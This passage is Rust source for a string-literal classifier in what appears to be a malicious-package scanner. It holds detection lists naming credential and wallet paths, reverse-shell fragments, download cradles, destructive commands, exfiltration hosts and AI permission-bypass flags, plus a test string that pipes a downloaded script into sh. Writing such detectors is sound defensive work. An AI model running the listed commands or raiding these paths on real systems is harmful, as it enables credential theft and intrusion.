//! What a string literal says: URLs and hosts (and whether they are exfiltration services,
//! geolocation or "what is my IP" services, raw IPs), credential and persistence paths, and
//! keyword families used by the rules. One Aho-Corasick automaton (built once) covers every
//! keyword family, so each literal is scanned once however many rules care.

use std::sync::LazyLock;

use aho_corasick::{AhoCorasick, AhoCorasickBuilder, MatchKind};

use super::taint::Taint;

/// Keyword families. A literal may belong to several.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash)]
pub enum Family {
    /// Developer credential files: `.npmrc`, `.ssh/`, `.aws/credentials` …
    DevCredential,
    /// Stealer targets: browser profiles, Local Storage / leveldb, Discord, wallets, `/etc/passwd`.
    StealerTarget,
    /// CI workflow files, shell start-up files, autostart locations, runner registration.
    Persistence,
    /// Shell start-up files only (a subset of persistence that benign completion installers edit).
    ShellRc,
    /// Download piped into a shell, PowerShell download cradles, LOLBins.
    DownloadCradle,
    /// `/dev/tcp/`, `nc -e`, `bash -i` …
    ReverseShellCommand,
    /// `trufflehog`, `gitleaks`.
    SecretTool,
    /// AI coding CLI permission-bypass flags.
    AiBypassFlag,
    /// `rm -rf`, `del /s`, `format c:` …
    DestructiveCommand,
    /// `npm publish` and friends.
    Publish,
    /// Identity commands in shell strings: `hostname`, `whoami` …
    IdentityCommand,
    /// Network tools in shell strings: `curl`, `wget`, `nslookup` …
    NetworkCommand,
    /// Political payload words.
    Political,
}

const KEYWORDS: &[(&str, Family)] = &[
    (".npmrc", Family::DevCredential),
    (".ssh/", Family::DevCredential),
    (".ssh\\", Family::DevCredential),
    ("id_rsa", Family::DevCredential),
    ("id_ed25519", Family::DevCredential),
    ("id_ecdsa", Family::DevCredential),
    (".aws/credentials", Family::DevCredential),
    (".aws\\credentials", Family::DevCredential),
    (".git-credentials", Family::DevCredential),
    (".docker/config.json", Family::DevCredential),
    (".kube/config", Family::DevCredential),
    (".netrc", Family::DevCredential),
    (".pypirc", Family::DevCredential),
    ("gh/hosts.yml", Family::DevCredential),
    (".config/gcloud", Family::DevCredential),
    ("local storage", Family::StealerTarget),
    ("login data", Family::StealerTarget),
    ("user data/default", Family::StealerTarget),
    ("user data\\default", Family::StealerTarget),
    ("web data", Family::StealerTarget),
    ("/discord", Family::StealerTarget),
    ("\\discord", Family::StealerTarget),
    ("discordcanary", Family::StealerTarget),
    ("discordptb", Family::StealerTarget),
    ("lightcord", Family::StealerTarget),
    ("firefox/profiles", Family::StealerTarget),
    ("mozilla/firefox", Family::StealerTarget),
    ("mozilla\\firefox", Family::StealerTarget),
    ("logins.json", Family::StealerTarget),
    ("key4.db", Family::StealerTarget),
    ("cookies.sqlite", Family::StealerTarget),
    ("exodus/exodus.wallet", Family::StealerTarget),
    ("exodus\\exodus.wallet", Family::StealerTarget),
    ("electrum/wallets", Family::StealerTarget),
    ("electrum\\wallets", Family::StealerTarget),
    ("ethereum/keystore", Family::StealerTarget),
    ("ethereum\\keystore", Family::StealerTarget),
    ("wallet.dat", Family::StealerTarget),
    ("nkbihfbeogaeaoehlefnkodbefgpgknn", Family::StealerTarget),
    ("bfnaelmomeimhlpmgjnjophhpkkoljpa", Family::StealerTarget),
    ("telegram desktop/tdata", Family::StealerTarget),
    ("telegram desktop\\tdata", Family::StealerTarget),
    ("/etc/passwd", Family::StealerTarget),
    ("/etc/shadow", Family::StealerTarget),
    ("login keychain", Family::StealerTarget),
    ("keychains/login.keychain", Family::StealerTarget),
    (".github/workflows", Family::Persistence),
    (".bashrc", Family::ShellRc),
    (".zshrc", Family::ShellRc),
    (".bash_profile", Family::ShellRc),
    (".zprofile", Family::ShellRc),
    ("start menu/programs/startup", Family::Persistence),
    ("start menu\\programs\\startup", Family::Persistence),
    ("currentversion\\run", Family::Persistence),
    ("library/launchagents", Family::Persistence),
    (".config/autostart", Family::Persistence),
    ("/etc/cron", Family::Persistence),
    ("crontab", Family::Persistence),
    ("systemd/user", Family::Persistence),
    ("runners/registration-token", Family::Persistence),
    ("config.sh --url", Family::Persistence),
    ("config.cmd --url", Family::Persistence),
    ("| sh", Family::DownloadCradle),
    ("|sh", Family::DownloadCradle),
    ("| bash", Family::DownloadCradle),
    ("|bash", Family::DownloadCradle),
    ("downloadstring(", Family::DownloadCradle),
    ("downloadfile(", Family::DownloadCradle),
    ("invoke-webrequest", Family::DownloadCradle),
    ("iwr ", Family::DownloadCradle),
    ("iex(", Family::DownloadCradle),
    ("iex (", Family::DownloadCradle),
    ("certutil -urlcache", Family::DownloadCradle),
    ("bitsadmin /transfer", Family::DownloadCradle),
    ("mshta http", Family::DownloadCradle),
    ("/dev/tcp/", Family::ReverseShellCommand),
    ("nc -e ", Family::ReverseShellCommand),
    ("ncat -e ", Family::ReverseShellCommand),
    ("bash -i", Family::ReverseShellCommand),
    ("sh -i >", Family::ReverseShellCommand),
    ("mkfifo /tmp/", Family::ReverseShellCommand),
    ("socat exec:", Family::ReverseShellCommand),
    ("trufflehog", Family::SecretTool),
    ("gitleaks", Family::SecretTool),
    ("--dangerously-skip-permissions", Family::AiBypassFlag),
    (
        "--dangerously-bypass-approvals-and-sandbox",
        Family::AiBypassFlag,
    ),
    ("--trust-all-tools", Family::AiBypassFlag),
    ("--yolo", Family::AiBypassFlag),
    ("--allow-all-tools", Family::AiBypassFlag),
    ("rm -rf", Family::DestructiveCommand),
    ("rm -fr", Family::DestructiveCommand),
    ("rm -r -f", Family::DestructiveCommand),
    ("rmdir /s", Family::DestructiveCommand),
    ("del /f", Family::DestructiveCommand),
    ("del /s", Family::DestructiveCommand),
    ("format c:", Family::DestructiveCommand),
    ("shred ", Family::DestructiveCommand),
    ("mkfs", Family::DestructiveCommand),
    ("dd if=/dev/zero", Family::DestructiveCommand),
    ("dd if=/dev/urandom", Family::DestructiveCommand),
    ("remove-item -recurse", Family::DestructiveCommand),
    ("npm publish", Family::Publish),
    ("pnpm publish", Family::Publish),
    ("yarn publish", Family::Publish),
    ("hostname", Family::IdentityCommand),
    ("whoami", Family::IdentityCommand),
    ("uname -a", Family::IdentityCommand),
    ("curl ", Family::NetworkCommand),
    ("wget ", Family::NetworkCommand),
    ("nslookup ", Family::NetworkCommand),
    ("dig ", Family::NetworkCommand),
    ("ping ", Family::NetworkCommand),
    ("invoke-webrequest", Family::NetworkCommand),
    ("russia", Family::Political),
    ("ukrain", Family::Political),
    ("belarus", Family::Political),
    ("putin", Family::Political),
    ("peacenotwar", Family::Political),
    ("standwithukraine", Family::Political),
    ("slava ukraini", Family::Political),
    ("no to war", Family::Political),
    ("with-love-from", Family::Political),
    ("україн", Family::Political),
    ("россия", Family::Political),
    ("путин", Family::Political),
    ("нет войне", Family::Political),
];

/// Keywords with their families, plus capitalised variants of the non-ASCII ones (the
/// automaton folds ASCII case only).
static PATTERNS: LazyLock<Vec<(String, Family)>> = LazyLock::new(|| {
    let mut out: Vec<(String, Family)> = KEYWORDS
        .iter()
        .map(|(k, f)| ((*k).to_string(), *f))
        .collect();
    for (k, f) in KEYWORDS {
        if !k.is_ascii() {
            let mut chars = k.chars();
            if let Some(first) = chars.next() {
                out.push((first.to_uppercase().chain(chars).collect(), *f));
            }
        }
    }
    out
});

static AUTOMATON: LazyLock<AhoCorasick> = LazyLock::new(|| {
    AhoCorasickBuilder::new()
        .ascii_case_insensitive(true)
        .match_kind(MatchKind::LeftmostFirst)
        .build(PATTERNS.iter().map(|(k, _)| k.as_str()))
        .unwrap_or_else(|e| panic!("keyword automaton: {e}"))
});

/// A bit set of [`Family`].
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub struct Families(u32);

impl std::ops::BitOr for Families {
    type Output = Families;
    fn bitor(self, rhs: Families) -> Families {
        Families(self.0 | rhs.0)
    }
}

impl Families {
    pub fn has(self, f: Family) -> bool {
        self.0 & (1 << f as u32) != 0
    }
    fn insert(&mut self, f: Family) {
        self.0 |= 1 << f as u32;
    }
    pub fn is_empty(self) -> bool {
        self.0 == 0
    }
}

/// Keyword families found in `text` (case-insensitive for ASCII; Cyrillic keywords match
/// lower-case or capitalised).
pub fn families(text: &str) -> Families {
    let mut out = Families::default();
    if text.len() < 4 {
        return out;
    }
    for m in AUTOMATON.find_iter(text) {
        if let Some(f) = accept(text, m.start(), m.end(), m.pattern().as_usize()) {
            out.insert(f);
        }
    }
    literal_filters(text, out)
}

/// Applies the word-boundary rule to one automaton match.
fn accept(hay: &str, start: usize, end: usize, pattern: usize) -> Option<Family> {
    let fam = PATTERNS.get(pattern)?.1;
    // Words that are also common English or identifiers must stand alone.
    let standalone = matches!(
        fam,
        Family::IdentityCommand | Family::Political | Family::SecretTool | Family::Publish
    );
    if standalone && !word_bounded(hay, start, end) {
        return None;
    }
    Some(fam)
}

/// Rules that look at the whole literal rather than at one keyword.
fn literal_filters(text: &str, mut out: Families) -> Families {
    if out.has(Family::Persistence)
        && text.len() >= 7
        && !text.contains(' ')
        && !text.contains('/')
        && text.eq_ignore_ascii_case("crontab")
    {
        out.0 &= !(1 << Family::Persistence as u32);
    }
    if text.contains(".env") && is_dotenv_path(text) {
        out.insert(Family::DevCredential);
    }
    if text.contains(".profile") && is_profile_path(text) {
        out.insert(Family::ShellRc);
    }
    if out.has(Family::ShellRc) {
        out.insert(Family::Persistence);
    }
    // `/discord` and friends only in things that look like paths, not URLs or prose.
    if out.has(Family::StealerTarget)
        && (text.contains("://") || text.split(' ').count() > 5 && !looks_like_path(text))
    {
        out.0 &= !(1 << Family::StealerTarget as u32);
    }
    out
}

/// Families a plain string literal can carry for the rules (paths, stealer targets,
/// persistence locations, political text). Command families matter only for executed
/// commands and are looked for there ([`families`]).
const LITERAL_FAMILIES: &[Family] = &[
    Family::DevCredential,
    Family::StealerTarget,
    Family::Persistence,
    Family::ShellRc,
    Family::Political,
];

static LITERAL_PATTERNS: LazyLock<Vec<(String, Family)>> = LazyLock::new(|| {
    PATTERNS
        .iter()
        .filter(|(_, f)| LITERAL_FAMILIES.contains(f))
        .cloned()
        .collect()
});

static LITERAL_AUTOMATON: LazyLock<AhoCorasick> = LazyLock::new(|| {
    AhoCorasickBuilder::new()
        .ascii_case_insensitive(true)
        .match_kind(MatchKind::LeftmostFirst)
        .build(LITERAL_PATTERNS.iter().map(|(k, _)| k.as_str()))
        .unwrap_or_else(|e| panic!("literal keyword automaton: {e}"))
});

/// Identifier-like literals (`'hostname'`, `'utf8'`) that still name a credential store or a
/// stealer target on their own.
const BARE_NAMES: &[(&str, Family)] = &[
    ("id_rsa", Family::DevCredential),
    ("id_ed25519", Family::DevCredential),
    ("id_ecdsa", Family::DevCredential),
    ("discordcanary", Family::StealerTarget),
    ("discordptb", Family::StealerTarget),
    ("lightcord", Family::StealerTarget),
    ("nkbihfbeogaeaoehlefnkodbefgpgknn", Family::StealerTarget),
    ("bfnaelmomeimhlpmgjnjophhpkkoljpa", Family::StealerTarget),
    ("peacenotwar", Family::Political),
    ("standwithukraine", Family::Political),
];

/// Keyword families of a string literal's value, for the rules that read literals
/// (cheaper than [`families`]: identifier-like strings are only compared with a short list).
pub fn literal_families(text: &str) -> Families {
    let mut out = Families::default();
    if text.len() < 4 || text.len() > 4096 {
        return out;
    }
    let plain = text
        .bytes()
        .all(|b| b.is_ascii_alphanumeric() || b == b'_' || b == b'-' || b == b'$');
    if plain {
        if let Some((_, f)) = BARE_NAMES
            .iter()
            .find(|(n, _)| n.len() == text.len() && n.eq_ignore_ascii_case(text))
        {
            out.insert(*f);
        }
        return out;
    }
    for m in LITERAL_AUTOMATON.find_iter(text) {
        let Some((_, fam)) = LITERAL_PATTERNS.get(m.pattern().as_usize()) else {
            continue;
        };
        if *fam == Family::Political && !word_bounded(text, m.start(), m.end()) {
            continue;
        }
        out.insert(*fam);
    }
    literal_filters(text, out)
}

fn word_bounded(hay: &str, start: usize, end: usize) -> bool {
    let before = hay[..start].chars().next_back();
    let after = hay[end..].chars().next();
    let is_word = |c: Option<char>| c.is_some_and(|c| c.is_alphanumeric() || c == '_');
    !is_word(before) && !is_word(after) || {
        // Cyrillic and other stems (`україн…`) may continue with letters.
        !hay[start..end].is_ascii() && !is_word(before)
    }
}

fn looks_like_path(text: &str) -> bool {
    text.contains('/') || text.contains('\\')
}

/// `.env`, `./.env`, `/app/.env`, `.env.local` — not `process.env` or `.environment`.
fn is_dotenv_path(text: &str) -> bool {
    let name = text.rsplit(['/', '\\']).next().unwrap_or(text);
    name == ".env" || name.starts_with(".env.") && name.len() < 24 && !name.contains(' ')
}

/// `~/.profile` and friends (the bare word "profile" is everywhere).
fn is_profile_path(text: &str) -> bool {
    let name = text.rsplit(['/', '\\']).next().unwrap_or(text);
    name == ".profile" && text.len() < 200
}

/// Where a URL or host points.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum HostClass {
    /// Webhook catchers, paste sites, interaction-capture (OAST) servers, tunnels.
    Exfil,
    /// A raw public IPv4 address.
    RawIp,
    /// IP-geolocation APIs.
    Geolocation,
    /// "What is my IP" services.
    IpEcho,
    Other,
}

const EXFIL_SUFFIXES: &[&str] = &[
    "webhook.site",
    "pipedream.net",
    "requestbin.com",
    "requestbin.net",
    "requestcatcher.com",
    "hookbin.com",
    "beeceptor.com",
    "interact.sh",
    "interactsh.com",
    "oast.fun",
    "oast.pro",
    "oast.live",
    "oast.site",
    "oast.online",
    "oast.me",
    "oastify.com",
    "burpcollaborator.net",
    "dnslog.cn",
    "ceye.io",
    "canarytokens.com",
    "pastebin.com",
    "paste.ee",
    "hastebin.com",
    "transfer.sh",
];

/// Tunnel domains: only their random subdomains are tunnels.
const TUNNEL_SUFFIXES: &[&str] = &[
    "ngrok.io",
    "ngrok-free.app",
    "ngrok.app",
    "ngrok-free.dev",
    "trycloudflare.com",
    "serveo.net",
    "loca.lt",
];

const GEO_HOSTS: &[&str] = &[
    "ipinfo.io",
    "ip-api.com",
    "ipapi.co",
    "ipgeolocation.io",
    "geolocation-db.com",
    "ipwhois.app",
    "ipwho.is",
    "freegeoip.app",
    "geojs.io",
    "ipdata.co",
    "ipregistry.co",
    "country.is",
    "extreme-ip-lookup.com",
    "ifconfig.co",
    "ipapi.is",
];

const IP_ECHO_HOSTS: &[&str] = &[
    "ifconfig.me",
    "ipify.org",
    "icanhazip.com",
    "ipecho.net",
    "checkip.amazonaws.com",
    "ident.me",
    "myexternalip.com",
    "wtfismyip.com",
    "ip.sb",
];

fn host_matches(host: &str, suffix: &str) -> bool {
    host == suffix
        || host.len() > suffix.len()
            && host.ends_with(suffix)
            && host.as_bytes()[host.len() - suffix.len() - 1] == b'.'
}

/// Classifies a host name (lower-case), with the URL path for services whose exfiltration
/// endpoints are paths (`discord.com/api/webhooks`, `api.telegram.org/bot…`).
pub fn classify_host(host: &str, path: &str) -> HostClass {
    let host = host.trim_end_matches('.');
    if let Some(ip) = parse_ipv4(host) {
        return if is_public_ipv4(ip) {
            HostClass::RawIp
        } else {
            HostClass::Other
        };
    }
    if EXFIL_SUFFIXES.iter().any(|s| host_matches(host, s)) {
        return HostClass::Exfil;
    }
    if TUNNEL_SUFFIXES
        .iter()
        .any(|s| host != *s && host_matches(host, s))
        && !["www.", "api.", "dashboard.", "docs.", "bin.", "equinox."]
            .iter()
            .any(|p| host.starts_with(p))
    {
        return HostClass::Exfil;
    }
    let lower_path = path.to_ascii_lowercase();
    if (host_matches(host, "discord.com") || host_matches(host, "discordapp.com"))
        && lower_path.starts_with("/api/webhooks")
        || host == "api.telegram.org" && lower_path.starts_with("/bot")
    {
        return HostClass::Exfil;
    }
    if GEO_HOSTS.iter().any(|s| host_matches(host, s)) {
        return HostClass::Geolocation;
    }
    if IP_ECHO_HOSTS.iter().any(|s| host_matches(host, s)) {
        return HostClass::IpEcho;
    }
    HostClass::Other
}

pub fn parse_ipv4(s: &str) -> Option<[u8; 4]> {
    let mut out = [0u8; 4];
    let mut parts = s.split('.');
    for slot in &mut out {
        let p = parts.next()?;
        if p.is_empty()
            || p.len() > 3
            || !p.bytes().all(|b| b.is_ascii_digit())
            || p.len() > 1 && p.starts_with('0')
        {
            return None;
        }
        *slot = p.parse().ok()?;
    }
    if parts.next().is_some() {
        return None;
    }
    Some(out)
}

/// Not private, loopback, link-local, multicast, reserved, documentation, or a well-known
/// public DNS resolver (connectivity checks).
pub fn is_public_ipv4(ip: [u8; 4]) -> bool {
    let [a, b, c, d] = ip;
    let reserved = a == 0
        || a == 10
        || a == 127
        || a >= 224
        || a == 169 && b == 254
        || a == 172 && (16..=31).contains(&b)
        || a == 192 && b == 168
        || a == 100 && (64..=127).contains(&b)
        || a == 192 && b == 0 && (c == 0 || c == 2)
        || a == 198 && (b == 18 || b == 19)
        || a == 198 && b == 51 && c == 100
        || a == 203 && b == 0 && c == 113;
    let resolver = matches!(
        (a, b, c, d),
        (8, 8, 8, 8)
            | (8, 8, 4, 4)
            | (1, 1, 1, 1)
            | (1, 0, 0, 1)
            | (9, 9, 9, 9)
            | (208, 67, 222, 222)
    );
    !reserved && !resolver
}

/// One URL (or bare host) found in a literal.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct FoundUrl {
    pub text: String,
    pub host: String,
    pub class: HostClass,
}

const MAX_URL_LEN: usize = 300;

/// URLs (`scheme://…`) in `text`, and the whole text when it is a bare host name or IPv4
/// address (`{ hostname: "x.oast.fun" }`).
pub fn urls(text: &str) -> Vec<FoundUrl> {
    let mut out = Vec::new();
    if text.len() < 4 {
        return out;
    }
    let bytes = text.as_bytes();
    let mut from = 0;
    while let Some(rel) = text[from..].find("://") {
        let at = from + rel;
        from = at + 3;
        // Scheme: letters before `://`.
        let mut s = at;
        while s > 0
            && (bytes[s - 1].is_ascii_alphanumeric() || matches!(bytes[s - 1], b'+' | b'-' | b'.'))
        {
            s -= 1;
        }
        let scheme = text[s..at].to_ascii_lowercase();
        if !matches!(
            scheme.as_str(),
            "http" | "https" | "ws" | "wss" | "ftp" | "tcp" | "udp"
        ) {
            continue;
        }
        let mut e = from;
        while e < bytes.len() && is_url_byte(bytes[e]) && e - s < MAX_URL_LEN {
            e += 1;
        }
        let url = text[s..e].trim_end_matches(['.', ',', ')', ';', ':', '\'', '"']);
        let rest = &text[from..s + url.len().max(from - s)];
        let host_end = rest.find(['/', '?', '#', ':']).unwrap_or(rest.len());
        let host = rest[..host_end]
            .rsplit('@')
            .next()
            .unwrap_or("")
            .to_ascii_lowercase();
        if host.is_empty() || host.contains('*') && host.len() < 3 {
            continue;
        }
        let path = &rest[host_end..];
        let path = path
            .strip_prefix(':')
            .map_or(path, |p| p.trim_start_matches(|c: char| c.is_ascii_digit()));
        out.push(FoundUrl {
            class: classify_host(&host, path),
            text: url.to_string(),
            host,
        });
        from = e.max(from);
    }
    if out.is_empty() && is_bare_host(text) {
        let host = text.to_ascii_lowercase();
        out.push(FoundUrl {
            class: classify_host(&host, ""),
            text: text.to_string(),
            host,
        });
    }
    out
}

fn is_url_byte(b: u8) -> bool {
    b.is_ascii_alphanumeric()
        || b"-._~:/?#[]@!$&'()*+,;=%{}".contains(&b) && b != b'\''
        || b >= 0x80
}

/// `a.b.example`, `1.2.3.4` — and not file names (`index.js`), versions or sentences.
fn is_bare_host(text: &str) -> bool {
    if text.len() > 253 || !text.contains('.') || text.starts_with('.') || text.ends_with('.') {
        return false;
    }
    if parse_ipv4(text).is_some() {
        return true;
    }
    if !text
        .bytes()
        .all(|b| b.is_ascii_alphanumeric() || b == b'.' || b == b'-')
    {
        return false;
    }
    let labels: Vec<&str> = text.split('.').collect();
    let tld = labels.last().copied().unwrap_or("");
    labels.len() >= 3
        && tld.len() >= 2
        && tld.bytes().all(|b| b.is_ascii_alphabetic())
        && labels.iter().all(|l| !l.is_empty())
}

/// Taint bits a literal carries by itself.
pub fn literal_taint(text: &str) -> Taint {
    if text.len() < 2 || text.len() > 4096 {
        return Taint::NONE;
    }
    literal_taint_with(text, literal_families(text))
}

/// [`literal_taint`] with the keyword families already known.
pub fn literal_taint_with(text: &str, fam: Families) -> Taint {
    let mut t = Taint::NONE;
    if text.len() < 2 || text.len() > 4096 {
        return t;
    }
    if text.len() <= 13
        && matches!(
            text,
            "~" | "/" | "~/" | "C:\\" | "C:/" | "$HOME" | "%USERPROFILE%"
        )
    {
        t |= Taint::HOME_ROOT;
    }
    if text.len() <= 16
        && matches!(
            text,
            ".ssh"
                | ".aws"
                | ".npmrc"
                | ".gnupg"
                | ".kube"
                | ".docker"
                | ".git-credentials"
                | ".netrc"
                | "id_rsa"
                | "id_ed25519"
        )
    {
        t |= Taint::CRED_PATH;
    }
    if fam.has(Family::DevCredential) || fam.has(Family::StealerTarget) {
        t |= Taint::CRED_PATH;
    }
    if fam.has(Family::Persistence) {
        t |= Taint::PERSIST_PATH;
    }
    if text.ends_with("package.json") {
        t |= Taint::MANIFEST_PATH;
    }
    if text.contains("://") || text.contains('.') {
        for u in urls(text) {
            t |= match u.class {
                HostClass::Exfil | HostClass::RawIp => Taint::EXFIL_URL,
                HostClass::Geolocation => Taint::GEO_URL,
                HostClass::IpEcho => Taint::IP_ECHO_URL,
                HostClass::Other => Taint::NONE,
            };
        }
        if text.contains("/-/") && text.ends_with(".tgz") {
            t |= Taint::REGISTRY_URL;
        }
    }
    t
}

/// Well-known user folders that a destructive payload targets as a whole.
pub fn is_user_folder(name: &str) -> bool {
    matches!(
        name.trim_matches(['/', '\\']).to_ascii_lowercase().as_str(),
        "desktop"
            | "documents"
            | "downloads"
            | "pictures"
            | "music"
            | "videos"
            | "onedrive"
            | "onedrive/desktop"
    )
}

/// Shannon entropy in bits per byte.
pub fn entropy(s: &[u8]) -> f64 {
    if s.is_empty() {
        return 0.0;
    }
    let mut counts = [0u32; 256];
    for &b in s {
        counts[b as usize] += 1;
    }
    let n = s.len() as f64;
    counts
        .iter()
        .filter(|&&c| c > 0)
        .map(|&c| {
            let p = f64::from(c) / n;
            -p * p.log2()
        })
        .sum()
}

/// A long literal that is an encoded blob: base64 (or data URI) or hex with high entropy.
pub fn is_encoded_blob(s: &str) -> bool {
    const MIN: usize = 200;
    if s.len() < MIN {
        return false;
    }
    let body = s.find(";base64,").map_or(s, |i| &s[i + 8..]);
    let bytes = body.as_bytes();
    if bytes.len() < MIN {
        return false;
    }
    let hex = bytes.iter().all(u8::is_ascii_hexdigit);
    if hex {
        return entropy(bytes) > 3.5;
    }
    let b64 = bytes.iter().all(|b| {
        b.is_ascii_alphanumeric() || matches!(b, b'+' | b'/' | b'=' | b'-' | b'_' | b'\n' | b'\r')
    });
    b64 && entropy(bytes) > 5.0
}

/// Shape of a regular expression source: which wallet address or secret token it matches.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub struct RegexShape {
    /// Bit per chain: 1 ETH, 2 BTC, 4 SOL, 8 TRX, 16 LTC/DOGE/XRP.
    pub wallet_chains: u8,
    /// Bit per secret kind: 1 GitHub, 2 npm, 4 AWS, 8 Slack, 16 Discord, 32 private key, 64 other.
    pub secret_kinds: u8,
}

pub fn regex_shape(src: &str) -> RegexShape {
    let mut shape = RegexShape::default();
    if src.len() > 2000 {
        return shape;
    }
    let base58 = src.contains("1-9A-HJ-NP-Za-km-z")
        || src.contains("a-km-zA-HJ-NP-Z1-9")
        || src.contains("A-HJ-NP-Za-km-z1-9");
    if src.contains("0x")
        && (src.contains("{40}") || src.contains("{40,"))
        && (src.contains("a-f") || src.contains("A-F"))
    {
        shape.wallet_chains |= 1;
    }
    if src.contains("bc1")
        || (src.contains("[13]") || src.contains("(1|3)"))
            && (src.contains("{25,") || src.contains("{26,") || src.contains("{27,"))
    {
        shape.wallet_chains |= 2;
    }
    if base58
        && (src.contains("{32,44}")
            || src.contains("{43,44}")
            || src.contains("{32,43}")
            || src.contains("{44}"))
        && !src.contains("Qm")
    {
        shape.wallet_chains |= 4;
    }
    if src.contains("T[") && src.contains("{33}") {
        shape.wallet_chains |= 8;
    }
    if src.contains("[LM3]")
        || src.contains("D{1}[5-9A-HJ-NP-U]")
        || src.contains("r[0-9a-zA-Z]{24,34}")
        || src.contains("bitcoincash:")
    {
        shape.wallet_chains |= 16;
    }
    if src.contains("ghp_")
        || src.contains("gho_")
        || src.contains("github_pat_")
        || src.contains("(ghp|gho")
    {
        shape.secret_kinds |= 1;
    }
    if src.contains("npm_") && src.contains("{36}") {
        shape.secret_kinds |= 2;
    }
    if src.contains("AKIA") {
        shape.secret_kinds |= 4;
    }
    if src.contains("xox")
        && (src.contains("[baprs]") || src.contains("xoxb") || src.contains("xoxp"))
    {
        shape.secret_kinds |= 8;
    }
    if src.contains("{24}") && src.contains("{6}") && (src.contains("{27}") || src.contains("{38}"))
        || src.contains("mfa\\.")
    {
        shape.secret_kinds |= 16;
    }
    if src.contains("PRIVATE KEY") {
        shape.secret_kinds |= 32;
    }
    if src.contains("sk_live_")
        || src.contains("AIza")
        || src.contains("glpat-")
        || src.contains("xai-")
        || src.contains("sk-ant-")
    {
        shape.secret_kinds |= 64;
    }
    shape
}

/// A literal wallet address (ETH `0x` + 40 hex, or a legacy/bech32 BTC address).
pub fn is_wallet_address(s: &str) -> bool {
    let b = s.as_bytes();
    if b.len() == 42 && s.starts_with("0x") && b[2..].iter().all(u8::is_ascii_hexdigit) {
        // Not a constant like 0x000…0 or 0xffff…f.
        return b[2..]
            .iter()
            .collect::<std::collections::HashSet<_>>()
            .len()
            > 4;
    }
    let base58 = |c: &u8| c.is_ascii_alphanumeric() && !matches!(c, b'0' | b'O' | b'I' | b'l');
    if (26..=35).contains(&b.len()) && (b[0] == b'1' || b[0] == b'3') && b.iter().all(base58) {
        return b.iter().any(u8::is_ascii_lowercase) && b.iter().any(u8::is_ascii_uppercase);
    }
    if (42..=62).contains(&b.len())
        && s.starts_with("bc1")
        && b.iter()
            .all(|c| c.is_ascii_lowercase() || c.is_ascii_digit())
    {
        return true;
    }
    false
}

/// Country names, locale and timezone strings that gate geo-targeted payloads.
pub fn is_location_literal(s: &str) -> bool {
    let b = s.as_bytes();
    // Locale `ru`, `ru-RU`, `be_BY`; country code `RU`.
    let locale = match b.len() {
        2 => b.iter().all(u8::is_ascii_alphabetic),
        5 => {
            b[..2].iter().all(u8::is_ascii_lowercase)
                && (b[2] == b'-' || b[2] == b'_')
                && b[3..].iter().all(u8::is_ascii_uppercase)
        }
        _ => false,
    };
    if locale {
        return true;
    }
    let lower = s.to_ascii_lowercase();
    if [
        "europe/",
        "asia/",
        "africa/",
        "america/",
        "australia/",
        "pacific/",
        "atlantic/",
        "indian/",
    ]
    .iter()
    .any(|p| lower.starts_with(p))
        && !lower.contains(' ')
    {
        return true;
    }
    const COUNTRIES: &[&str] = &[
        "russia",
        "russian federation",
        "belarus",
        "ukraine",
        "china",
        "iran",
        "israel",
        "north korea",
        "korea",
        "united states",
        "germany",
        "france",
        "india",
        "turkey",
        "kazakhstan",
        "georgia",
        "poland",
        "syria",
        "cuba",
        "venezuela",
    ];
    COUNTRIES.contains(&lower.as_str())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn exfiltration_hosts_are_recognised_by_host_not_by_substring() {
        let u = urls("https://webhook.site/abc-123");
        assert_eq!(u[0].class, HostClass::Exfil);
        assert_eq!(urls("x.oast.fun")[0].class, HostClass::Exfil);
        assert_eq!(
            urls("https://discord.com/api/webhooks/1/abc")[0].class,
            HostClass::Exfil
        );
        assert_eq!(
            urls("https://discord.com/invite/abc")[0].class,
            HostClass::Other
        );
        assert_eq!(
            urls("https://abcd.ngrok-free.app/x")[0].class,
            HostClass::Exfil
        );
        assert_eq!(
            urls("https://dashboard.ngrok.com/get-started")[0].class,
            HostClass::Other
        );
        assert_eq!(urls("http://45.9.148.3:8080/x")[0].class, HostClass::RawIp);
        assert_eq!(urls("http://127.0.0.1:8080/x")[0].class, HostClass::Other);
        assert_eq!(urls("http://192.168.1.1/")[0].class, HostClass::Other);
        assert!(urls("index.js").is_empty());
        assert!(urls("see the docs").is_empty());
        assert_eq!(
            urls("https://ipinfo.io/json")[0].class,
            HostClass::Geolocation
        );
    }

    #[test]
    fn keyword_families_need_path_or_word_shape() {
        assert!(families("/home/u/.npmrc").has(Family::DevCredential));
        assert!(families(".env").has(Family::DevCredential));
        assert!(!families("process.env").has(Family::DevCredential));
        assert!(
            families("AppData/Roaming/Discord/Local Storage/leveldb").has(Family::StealerTarget)
        );
        assert!(!families("https://discord.com/api").has(Family::StealerTarget));
        assert!(families("curl -s http://x.example/a.sh | sh").has(Family::DownloadCradle));
        assert!(families("hostname").has(Family::IdentityCommand));
        assert!(!families("getHostname").has(Family::IdentityCommand));
        assert!(families("~/.profile").has(Family::Persistence));
        assert!(!families("profile").has(Family::Persistence));
        assert!(families("Слава Україні").has(Family::Political));
    }

    #[test]
    fn wallet_and_secret_regexes_are_told_apart() {
        assert_eq!(regex_shape("\\b0x[a-fA-F0-9]{40}\\b").wallet_chains, 1);
        assert_eq!(
            regex_shape("\\b(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}\\b").wallet_chains,
            2
        );
        assert_eq!(regex_shape("^[a-z]+$"), RegexShape::default());
        assert_eq!(regex_shape("ghp_[A-Za-z0-9]{36}").secret_kinds, 1);
        assert!(is_wallet_address(
            "0x52908400098527886E0F7030069857D2E4169EE7"
        ));
        assert!(!is_wallet_address(
            "0x0000000000000000000000000000000000000000"
        ));
    }

    #[test]
    fn blobs_need_length_charset_and_entropy() {
        let blob: String = (0..400u32)
            .map(|i| {
                char::from(
                    b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/"
                        [(i * 37 % 64) as usize],
                )
            })
            .collect();
        assert!(is_encoded_blob(&blob));
        assert!(!is_encoded_blob(&"a".repeat(400)));
        assert!(!is_encoded_blob("short"));
    }

    #[test]
    fn location_literals() {
        assert!(is_location_literal("ru-RU"));
